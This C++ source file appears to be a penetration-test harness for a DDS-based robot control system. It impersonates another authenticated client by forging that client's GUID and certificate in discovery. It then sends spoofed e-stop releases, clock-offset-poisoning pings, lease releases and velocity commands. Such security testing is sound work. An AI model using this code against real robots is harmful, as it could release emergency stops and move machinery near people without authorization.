// insider_forger: an insider that announces another client's identity. A Cyclone DDS participant
// with the attacker's own DDS Security credentials whose authentication plugin (insider_plugins.cc)
// announces the GUID derived from the victim's certificate and carries the victim's certificate
// (DER) in USER_DATA as mostar participants do ("mostar.cert.der.1:" then the DER), while the
// handshake is signed with the attacker's key and carries its own GUID. Its own access control
// allows every writer (an attacker runs the stack it likes), so that the robot's checks are what
// is tested; --local-access-control keeps Cyclone's, which refuses writers outside the
// attacker's permissions (outcome refused_locally).
//
// As the victim (sender_id = --victim) it tries, in each wire form (--wire: "old", no
// partition; "victim", partition mostar.client.<victim>; "own", partition mostar.client.<self>):
//   estop_release  e-stop releases, every 200 ms
//   clock_pings    clock pings every 20 ms whose stamps say the victim's clock is 5 s behind
//                  (and whose t3 claims the shortest round trip), to poison the robot's offset
//   lease_release  control requests releasing the lease, every 200 ms
//   cmd_vel        commands (10 disarmed, then 0.2 m/s), every 50 ms, sequence numbers from
//                  3000000000
// The tries run in the order given, each in every wire form in turn: the writers of one try (one
// per wire form) are made together and get one wait for their match (--match-wait-s), then each
// writes for --try-s in turn. It prints one line per try and wire form:
//   INSIDER name=TRY wire=FORM partition=P as=VICTIM outcome=sent|refused_locally matched=N
//     samples=N t_start=S t_end=S
// (t_* in wall-clock seconds; a try's first line starts when its writers are made). With
// --wait-before TRY --go-file PATH it prints "INSIDER_WAITING name=TRY" before that try and
// waits until PATH exists (at most --go-wait-s), so that whoever runs it can set the robot up for
// it (an e-stop to release). It knows nothing of the outcome: whoever runs it judges from what
// the robot publishes. Exit 0 when it ran, 1 when it could not join the domain.
#include <CLI/CLI.hpp>
#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <map>
#include <sstream>
#include <thread>

#include "cyclone_participant.h"

#ifndef MOSTAR_INSIDER_PLUGINS_LIBRARY
#define MOSTAR_INSIDER_PLUGINS_LIBRARY ""
#endif
#ifndef MOSTAR_CYCLONE_AC_LIBRARY
#define MOSTAR_CYCLONE_AC_LIBRARY ""
#endif
#ifndef MOSTAR_CYCLONE_CRYPTO_LIBRARY
#define MOSTAR_CYCLONE_CRYPTO_LIBRARY ""
#endif

namespace mostar::forger {
namespace {

using namespace std::chrono_literals;
using Clock = std::chrono::steady_clock;

constexpr int64_t kPingShiftNs = 5'000'000'000;
constexpr uint64_t kPingFirstSequence = 5'000'000;
constexpr uint64_t kCommandFirstSequence = 3'000'000'000;

struct Options {
  int domain = 0;
  Credentials credentials;
  Plugins plugins;
  std::string victim_cert;  // PEM
  std::string victim;
  std::string self;
  std::vector<std::string> tries = {"estop_release", "clock_pings", "lease_release", "cmd_vel"};
  std::vector<std::string> wires = {"old", "victim", "own"};
  double match_wait_s = 4;
  double try_s = 2.5;
  double ready_wait_s = 20;
  std::string wait_before;
  std::string go_file;
  double go_wait_s = 60;
};

bool ReadFile(const std::string& path, std::vector<uint8_t>* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream text;
  text << in.rdbuf();
  const std::string bytes = text.str();
  out->assign(bytes.begin(), bytes.end());
  return !out->empty();
}

// The victim's certificate as DER (openssl x509 -outform der).
bool CertificateDer(const std::string& pem_path, std::vector<uint8_t>* der) {
  std::vector<uint8_t> pem;
  if (!ReadFile(pem_path, &pem)) return false;
  const std::string text(pem.begin(), pem.end());
  const std::string begin = "-----BEGIN CERTIFICATE-----";
  const std::string end = "-----END CERTIFICATE-----";
  const size_t b = text.find(begin);
  const size_t e = text.find(end);
  if (b == std::string::npos || e == std::string::npos || e < b) {
    *der = pem;  // already DER
    return true;
  }
  static const std::string kAlphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  der->clear();
  uint32_t bits = 0;
  int count = 0;
  for (size_t i = b + begin.size(); i < e; ++i) {
    const size_t v = kAlphabet.find(text[i]);
    if (v == std::string::npos) continue;  // newlines, padding
    bits = (bits << 6) | static_cast<uint32_t>(v);
    count += 6;
    if (count >= 8) {
      count -= 8;
      der->push_back(static_cast<uint8_t>((bits >> count) & 0xff));
    }
  }
  return !der->empty();
}

std::string PartitionOf(const Options& o, const std::string& wire) {
  if (wire == "victim") return kSenderPartitionPrefix + o.victim;
  if (wire == "own") return kSenderPartitionPrefix + o.self;
  return "";
}

class Forger {
 public:
  explicit Forger(Options options) : o_(std::move(options)) {}

  int Run() {
    std::vector<uint8_t> der;
    if (!CertificateDer(o_.victim_cert, &der)) {
      std::cerr << "insider_forger: cannot read the certificate " << o_.victim_cert << "\n";
      return 1;
    }
    std::vector<uint8_t> user_data = {'m', 'o', 's', 't', 'a', 'r', '.', 'c', 'e',
                                      'r', 't', '.', 'd', 'e', 'r', '.', '1', ':'};
    user_data.insert(user_data.end(), der.begin(), der.end());
    setenv("MOSTAR_INSIDER_VICTIM_CERT", o_.victim_cert.c_str(), 1);
    std::string error;
    participant_ =
        CreateSecureParticipant(o_.domain, o_.credentials, o_.plugins, user_data, &error);
    if (participant_ < 0) {
      std::cerr << "insider_forger: " << error << "\n";
      return 1;
    }
    WaitForRobot();
    // The next try's writers are made while the last wire form of a try writes, so that their
    // wait for a match runs meanwhile.
    Writers next = MakeWriters(o_.tries.empty() ? "" : o_.tries.front());
    for (size_t i = 0; i < o_.tries.size(); ++i) {
      const std::string& t = o_.tries[i];
      if (t == o_.wait_before && !o_.go_file.empty()) WaitForGo(t);
      Writers now = std::move(next);
      next = {};
      Try(t, now, [&] {
        if (i + 1 < o_.tries.size()) next = MakeWriters(o_.tries[i + 1]);
      });
    }
    dds_delete(participant_);
    return 0;
  }

 private:
  // Waits until a remote participant is discovered (with DDS Security: authenticated), then
  // lets discovery of its endpoints settle.
  void WaitForRobot() {
    const double start = WallSeconds();
    const dds_entity_t reader =
        dds_create_reader(participant_, DDS_BUILTIN_TOPIC_DCPSPARTICIPANT, nullptr, nullptr);
    dds_guid_t own{};
    dds_get_guid(participant_, &own);
    int remote = 0;
    const auto deadline = Clock::now() + std::chrono::duration<double>(o_.ready_wait_s);
    while (remote == 0 && Clock::now() < deadline) {
      void* samples[16] = {};
      dds_sample_info_t infos[16];
      const int n = dds_read(reader, samples, infos, 16, 16);
      for (int i = 0; i < n; ++i) {
        const auto* p = static_cast<const dds_builtintopic_participant_t*>(samples[i]);
        if (infos[i].valid_data && std::memcmp(&p->key, &own, sizeof(own)) != 0) ++remote;
      }
      if (n > 0) dds_return_loan(reader, samples, n);
      if (remote == 0) std::this_thread::sleep_for(100ms);
    }
    dds_delete(reader);
    if (remote > 0) std::this_thread::sleep_for(2s);
    std::printf("INSIDER_READY self=%s as=%s remote_participants=%d after_s=%.1f\n",
                o_.self.c_str(), o_.victim.c_str(), remote, WallSeconds() - start);
    std::fflush(stdout);
  }

  void WaitForGo(const std::string& name) {
    std::printf("INSIDER_WAITING name=%s\n", name.c_str());
    std::fflush(stdout);
    const auto deadline = Clock::now() + std::chrono::duration<double>(o_.go_wait_s);
    while (!std::ifstream(o_.go_file) && Clock::now() < deadline) std::this_thread::sleep_for(50ms);
  }

  dds_entity_t Topic(const char* name, const dds_topic_descriptor_t* descriptor) {
    auto it = topics_.find(name);
    if (it != topics_.end()) return it->second;
    const dds_entity_t topic = dds_create_topic(participant_, descriptor, name, nullptr, nullptr);
    if (topic >= 0) topics_[name] = topic;
    return topic;
  }

  // A writer on `topic` in `partition` (empty: default); negative when refused.
  dds_entity_t Writer(const char* topic_name, const dds_topic_descriptor_t* descriptor,
                      const std::string& partition, bool command) {
    const dds_entity_t topic = Topic(topic_name, descriptor);
    if (topic < 0) return topic;
    dds_qos_t* pqos = dds_create_qos();
    if (!partition.empty()) dds_qset_partition1(pqos, partition.c_str());
    const dds_entity_t publisher = dds_create_publisher(participant_, pqos, nullptr);
    dds_delete_qos(pqos);
    if (publisher < 0) return publisher;
    dds_qos_t* qos = EndpointQos(command ? 1 : 10, false);
    if (command) {
      // What the robot's command reader requests: deadline 200 ms, manual-by-topic 500 ms.
      dds_qset_deadline(qos, DDS_MSECS(100));
      dds_qset_liveliness(qos, DDS_LIVELINESS_MANUAL_BY_TOPIC, DDS_MSECS(300));
    }
    const dds_entity_t writer = dds_create_writer(publisher, topic, qos, nullptr);
    dds_delete_qos(qos);
    if (writer < 0) dds_delete(publisher);
    return writer;
  }

  static int Matched(dds_entity_t writer) {
    dds_publication_matched_status_t status{};
    if (dds_get_publication_matched_status(writer, &status) != DDS_RETCODE_OK) return 0;
    return static_cast<int>(status.current_count);
  }

  // One try's writers, one per wire form (negative: refused), and when they were made.
  struct Writers {
    std::vector<dds_entity_t> writers;
    Clock::time_point made;
  };

  // Waits until every writer (refused ones, negative, aside) is matched, at most --match-wait-s
  // after they were made.
  void WaitMatched(const Writers& made) {
    const std::vector<dds_entity_t>& writers = made.writers;
    auto all = [&] {
      return std::all_of(writers.begin(), writers.end(),
                         [](dds_entity_t w) { return w < 0 || Matched(w) > 0; });
    };
    const auto deadline = made.made + std::chrono::duration_cast<Clock::duration>(
                                          std::chrono::duration<double>(o_.match_wait_s));
    while (!all() && Clock::now() < deadline) std::this_thread::sleep_for(50ms);
    if (std::any_of(writers.begin(), writers.end(),
                    [](dds_entity_t w) { return w >= 0 && Matched(w) > 0; })) {
      std::this_thread::sleep_for(300ms);  // let the matches settle
    }
  }

  // Repeats `write` every `period` for the try's duration; returns the samples written.
  template <class F>
  int Repeat(std::chrono::milliseconds period, F write) {
    int written = 0;
    const auto end = Clock::now() + std::chrono::duration<double>(o_.try_s);
    while (Clock::now() < end) {
      if (write()) ++written;
      std::this_thread::sleep_for(period);
    }
    return written;
  }

  // The type of try `name`'s topic; its name in *topic.
  static const dds_topic_descriptor_t* DescriptorOf(const std::string& name, const char** topic) {
    if (name == "estop_release") {
      *topic = kEstop;
      return &mostar_msgs_msg_dds__EmergencyStop__desc;
    }
    if (name == "clock_pings") {
      *topic = kPing;
      return &mostar_msgs_msg_dds__ClockProbe__desc;
    }
    if (name == "lease_release") {
      *topic = kRequest;
      return &mostar_msgs_msg_dds__ControlRequest__desc;
    }
    *topic = kCommand;
    return &mostar_msgs_msg_dds__VelocityCommand__desc;
  }

  // The writers of try `name` in every wire form (none for an empty name).
  Writers MakeWriters(const std::string& name) {
    Writers out;
    out.made = Clock::now();
    if (name.empty()) return out;
    const char* topic = nullptr;
    const dds_topic_descriptor_t* descriptor = DescriptorOf(name, &topic);
    for (const std::string& wire : o_.wires) {
      out.writers.push_back(Writer(topic, descriptor, PartitionOf(o_, wire), topic == kCommand));
    }
    return out;
  }

  // One try in every wire form with the writers made for it: the rest of their wait for a
  // match, then each writes in turn; `before_last` runs as the last one starts. The try's first
  // line starts now (nothing of it was written before).
  template <class F>
  void Try(const std::string& name, const Writers& made, F before_last) {
    double t_start = WallSeconds();
    WaitMatched(made);
    for (size_t i = 0; i < o_.wires.size(); ++i) {
      if (i + 1 == o_.wires.size()) before_last();
      Write(name, o_.wires[i], made.writers[i], t_start);
      t_start = WallSeconds();
    }
  }

  // Writes try `name` with `writer` (negative: refused) for --try-s and prints its line.
  void Write(const std::string& name, const std::string& wire, dds_entity_t writer,
             double t_start) {
    const std::string partition = PartitionOf(o_, wire);
    int matched = 0;
    int samples = 0;
    std::string outcome = "refused_locally";
    std::string detail;
    if (writer < 0) {
      detail = std::string(" error=") + dds_strretcode(writer);
    } else {
      outcome = "sent";
      matched = Matched(writer);
      if (name == "estop_release") {
        samples = Repeat(200ms, [&] {
          mostar_msgs_msg_dds__EmergencyStop_ s{};
          s.stamp = Stamp(WallNanos());
          SetString(s.sender_id, o_.victim);
          s.engage = false;
          return dds_write(writer, &s) == DDS_RETCODE_OK;
        });
      } else if (name == "clock_pings") {
        samples = Pings(writer, partition);
      } else if (name == "lease_release") {
        samples = Repeat(200ms, [&] {
          mostar_msgs_msg_dds__ControlRequest_ r{};
          r.stamp = Stamp(WallNanos());
          SetString(r.sender_id, o_.victim);
          r.strength = 100;
          r.take = false;
          return dds_write(writer, &r) == DDS_RETCODE_OK;
        });
      } else {
        uint64_t sequence = kCommandFirstSequence;
        samples = Repeat(50ms, [&] {
          mostar_msgs_msg_dds__VelocityCommand_ c{};
          c.stamp = Stamp(WallNanos());
          c.sequence_number = sequence;
          SetString(c.sender_id, o_.victim);
          c.enable = sequence >= kCommandFirstSequence + 10;
          c.linear_mps = c.enable ? 0.2 : 0.0;
          ++sequence;
          return dds_write(writer, &c) == DDS_RETCODE_OK;
        });
      }
      dds_delete(dds_get_parent(writer));
    }
    std::printf(
        "INSIDER name=%s wire=%s partition=%s as=%s self=%s outcome=%s matched=%d samples=%d "
        "t_start=%.3f t_end=%.3f%s\n",
        name.c_str(), wire.c_str(), partition.empty() ? "(none)" : partition.c_str(),
        o_.victim.c_str(), o_.self.c_str(), outcome.c_str(), matched, samples, t_start,
        WallSeconds(), detail.c_str());
    std::fflush(stdout);
  }

  // Pings as the victim whose t0 is 5 s early and whose t3 (receive time of the previous pong)
  // makes each exchange look like the shortest round trip; pongs are read where permitted.
  int Pings(dds_entity_t writer, const std::string& partition) {
    dds_entity_t pong_reader = -1;
    const dds_entity_t pong_topic = Topic(kPong, &mostar_msgs_msg_dds__ClockProbe__desc);
    for (const std::string& p : {std::string(), partition}) {
      if (pong_reader >= 0 || pong_topic < 0) break;
      dds_qos_t* sqos = dds_create_qos();
      if (!p.empty()) dds_qset_partition1(sqos, p.c_str());
      const dds_entity_t subscriber = dds_create_subscriber(participant_, sqos, nullptr);
      dds_delete_qos(sqos);
      if (subscriber < 0) continue;
      dds_qos_t* qos = EndpointQos(64, false);
      pong_reader = dds_create_reader(subscriber, pong_topic, qos, nullptr);
      dds_delete_qos(qos);
      if (pong_reader < 0) dds_delete(subscriber);
    }
    std::map<uint64_t, int64_t> hold_ns;  // robot's t2 - t1 per pong of ours
    uint64_t sequence = kPingFirstSequence;
    int64_t last_t0 = 0;
    const int written = Repeat(20ms, [&] {
      if (pong_reader >= 0) {
        mostar_msgs_msg_dds__ClockProbe_ pongs[16];
        void* ptrs[16];
        dds_sample_info_t infos[16];
        for (int i = 0; i < 16; ++i) ptrs[i] = &pongs[i];
        const int n = dds_take(pong_reader, ptrs, infos, 16, 16);
        for (int i = 0; i < n; ++i) {
          if (infos[i].valid_data && pongs[i].sequence_number >= kPingFirstSequence) {
            hold_ns[pongs[i].sequence_number] = Nanos(pongs[i].t2) - Nanos(pongs[i].t1);
          }
        }
      }
      mostar_msgs_msg_dds__ClockProbe_ p{};
      SetString(p.sender_id, o_.victim);
      p.sequence_number = sequence;
      int64_t t3 = 0;
      auto it = hold_ns.find(sequence - 1);
      if (it != hold_ns.end()) {
        t3 = last_t0 + it->second + 10'000;
      } else if (last_t0 != 0) {
        t3 = last_t0 + 200'000;
      }
      last_t0 = WallNanos() - kPingShiftNs;
      p.t0 = Stamp(last_t0);
      p.t3 = Stamp(t3);
      ++sequence;
      return dds_write(writer, &p) == DDS_RETCODE_OK;
    });
    if (pong_reader >= 0) dds_delete(dds_get_parent(pong_reader));
    return written;
  }

  Options o_;
  dds_entity_t participant_ = -1;
  std::map<std::string, dds_entity_t> topics_;
};

}  // namespace
}  // namespace mostar::forger

int main(int argc, char** argv) {
  using mostar::forger::Options;
  Options o;
  o.plugins.auth_path = MOSTAR_INSIDER_PLUGINS_LIBRARY;
  o.plugins.auth_init = "init_insider_authentication";
  o.plugins.auth_finalize = "finalize_insider_authentication";
  const std::string cyclone_access = MOSTAR_CYCLONE_AC_LIBRARY;
  o.plugins.crypto_path = MOSTAR_CYCLONE_CRYPTO_LIBRARY;
  CLI::App app{"insider_forger: acts as another client with one's own DDS Security credentials"};
  app.add_option("--domain", o.domain, "DDS domain id")->check(CLI::Range(0, 232));
  app.add_option("--identity-ca", o.credentials.identity_ca, "identity CA certificate (PEM)")
      ->required();
  app.add_option("--cert", o.credentials.cert, "own certificate (PEM)")->required();
  app.add_option("--key", o.credentials.key, "own private key (PEM)")->required();
  app.add_option("--permissions-ca", o.credentials.permissions_ca, "permissions CA (PEM)")
      ->required();
  app.add_option("--governance", o.credentials.governance, "signed governance (.p7s)")->required();
  app.add_option("--permissions", o.credentials.permissions, "own signed permissions (.p7s)")
      ->required();
  app.add_option("--victim-cert", o.victim_cert, "the victim's certificate (PEM)")->required();
  app.add_option("--victim", o.victim, "the victim's client id")->required();
  app.add_option("--self", o.self, "the attacker's own client id")->required();
  app.add_option("--try", o.tries, "estop_release, clock_pings, lease_release, cmd_vel")
      ->check(CLI::IsMember({"estop_release", "clock_pings", "lease_release", "cmd_vel"}));
  app.add_option("--wire", o.wires, "old (no partition), victim, own (partition)")
      ->check(CLI::IsMember({"old", "victim", "own"}));
  app.add_option("--match-wait-s", o.match_wait_s, "wait this long for a writer's match");
  app.add_option("--try-s", o.try_s, "how long each try writes");
  app.add_option("--ready-wait-s", o.ready_wait_s, "wait this long to discover the robot");
  app.add_option("--wait-before", o.wait_before, "before this try, wait for --go-file")
      ->check(CLI::IsMember({"estop_release", "clock_pings", "lease_release", "cmd_vel"}));
  app.add_option("--go-file", o.go_file, "the file whose existence lets --wait-before go on");
  app.add_option("--go-wait-s", o.go_wait_s, "wait at most this long for --go-file");
  app.add_option("--plugins-library", o.plugins.auth_path, "the insider_plugins library");
  bool local_access_control = false;
  app.add_flag("--local-access-control", local_access_control,
               "keep Cyclone's access control for own writers");
  app.add_option("--crypto-library", o.plugins.crypto_path, "Cyclone's cryptography plugin");
  CLI11_PARSE(app, argc, argv);
  if (local_access_control) {
    o.plugins.access_path = cyclone_access;
  } else {
    o.plugins.access_path = o.plugins.auth_path;
    o.plugins.access_init = "init_insider_access_control";
    o.plugins.access_finalize = "finalize_insider_access_control";
  }
  return mostar::forger::Forger(o).Run();
}
